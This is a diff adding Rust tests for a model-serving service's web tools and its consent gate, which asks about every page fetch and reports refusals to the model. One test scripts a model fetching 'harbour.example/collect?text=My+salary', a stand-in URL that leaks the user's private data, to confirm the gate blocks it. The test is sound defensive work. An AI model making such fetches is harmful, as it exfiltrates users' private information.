@@ -2,7 +2,10 @@
 
 use crate::local::{Local, Person, about, citations, id, text};
 use crate::scripted::{Scripted, calling, saying};
+use parlance_service::{RequestedPage, WebAccess, WebConsent};
 use serde_json::{Value, json};
+use std::pin::Pin;
+use std::sync::{Arc, Mutex};
 
 /// A service with a model, and with a search engine that finds two pages.
 async fn with(model: &Scripted) -> (Local, Person) {
@@ -77,4 +80,78 @@ async fn pages_are_numbered_after_the_passages_of_documents() {
     let cited = citations(&answer);
     assert_eq!((&cited[0]["type"], &cited[0]["file_id"]), (&json!("file_citation"), &file["id"]));
     assert_eq!((&cited[1]["type"], &cited[1]["title"]), (&json!("url_citation"), &json!("Cranes")));
+}
+
+/// The names of the tools that a model was offered with a question.
+fn offered(asked: &Value) -> Vec<&str> {
+    let tools = asked["tools"].as_array().unwrap();
+    tools.iter().map(|tool| tool["function"]["name"].as_str().unwrap()).collect()
+}
+
+#[tokio::test]
+async fn a_search_is_offered_only_with_an_engine() {
+    let model = Scripted::start("small", vec![saying(&["Hello."])]).await;
+    let (_local, anna) = with(&model).await;
+    anna.ask(json!({ "input": "Hi" })).await;
+    assert_eq!(offered(&model.asked()[0]), ["calculator", "current_datetime", "web_fetch", "web_search"]);
+}
+
+/// Refuses every page, and notes what it is asked.
+#[derive(Default)]
+struct Refusing(Mutex<Vec<RequestedPage>>);
+
+impl WebConsent for Refusing {
+    fn is_offered(&self) -> bool {
+        true
+    }
+
+    fn may_read(&self, page: RequestedPage) -> Pin<Box<dyn Future<Output = bool> + Send>> {
+        self.0.lock().unwrap().push(page);
+        Box::pin(std::future::ready(false))
+    }
+}
+
+#[tokio::test]
+async fn a_page_is_asked_about_first_and_a_refusal_is_told_to_the_model() {
+    let address = "https://harbour.example/collect?text=My+salary";
+    let fetch = || calling(&[("web_fetch", &json!({ "url": address }).to_string())]);
+    let turns = vec![fetch(), saying(&["I could not look."]), fetch(), saying(&["I could not look."])];
+    let model = Scripted::start("small", turns).await;
+    let consent = Arc::new(Refusing::default());
+    let (upstreams, asked) = (vec![model.settings()], consent.clone());
+    let local = Local::start_with(|mut config| {
+        config.models.answers = upstreams;
+        config.web_access = WebAccess::Asked(asked);
+        config
+    })
+    .await;
+    let anna = local.person("anna");
+    anna.ask(json!({ "input": "What do I pay in tax?" })).await;
+    let output = model.asked()[1]["messages"][2]["content"].as_str().unwrap().to_owned();
+    assert!(output.contains("has not allowed this page"), "{output}");
+    let file = anna.upload("salary.txt", "My salary is 50000 a year.").await;
+    anna.ask(json!({ "input": about(&[id(&file)], "What do I pay in tax?") })).await;
+    let asked = consent.0.lock().unwrap().clone();
+    let addresses: Vec<&str> = asked.iter().map(|page| page.address.as_str()).collect();
+    assert_eq!(addresses, [address, address]);
+    let has_documents: Vec<bool> = asked.iter().map(|page| page.has_documents).collect();
+    assert_eq!(has_documents, [false, true]);
+}
+
+#[tokio::test]
+async fn without_web_tools_a_model_is_offered_none_and_a_call_of_one_fails() {
+    let fetch = calling(&[("web_fetch", "{\"url\":\"https://harbour.example/\"}")]);
+    let model = Scripted::start("small", vec![fetch, saying(&["I could not look."])]).await;
+    let upstreams = vec![model.settings()];
+    let local = Local::start_with(|mut config| {
+        config.models.answers = upstreams;
+        config.web_access = WebAccess::Off;
+        config
+    })
+    .await;
+    local.person("anna").ask(json!({ "input": "Hi" })).await;
+    let asked = model.asked();
+    assert_eq!(offered(&asked[0]), ["calculator", "current_datetime"]);
+    let output = asked[1]["messages"][2]["content"].as_str().unwrap();
+    assert!(output.contains("there is no tool web_fetch"), "{output}");
 }
